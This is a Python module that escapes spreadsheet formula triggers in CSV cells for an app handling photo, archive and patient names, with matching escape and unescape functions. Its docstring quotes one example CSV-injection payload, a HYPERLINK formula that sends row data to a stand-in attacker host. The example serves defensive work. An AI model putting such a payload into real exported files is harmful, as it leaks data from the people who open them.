"""One escape for every cell the app writes into a CSV a person will open in a spreadsheet.

Photo, archive and patient names come from outside (a phone, a zip, a clinic's list). A
cell that starts with ``= + - @`` (or a tab / carriage return, which some spreadsheets
skip before looking) is run as a formula by Excel, LibreOffice and Google Sheets:
``=HYPERLINK("http://evil.example/?"&B2,"Open")`` would send the row's data away on a
click. Such a cell is written with a leading apostrophe, the spreadsheets' own "this is
text" mark (OWASP's advice for CSV injection); the visible text is unchanged.

    writer.writerow(escape_row(values))
    original = unescape_cell(cell)   # reading our own CSV back (the pre-sort resume)
"""

from __future__ import annotations

from typing import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def escape_cell(value) -> str:
    """The cell as text, marked as text when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    return TEXT_MARK + text if text.startswith(FORMULA_STARTS) else text


def escape_row(values: Iterable) -> list[str]:
    return [escape_cell(value) for value in values]


def unescape_cell(text: str) -> str:
    """The value ``escape_cell`` was given (for cells written by it)."""
    if text.startswith(TEXT_MARK) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text
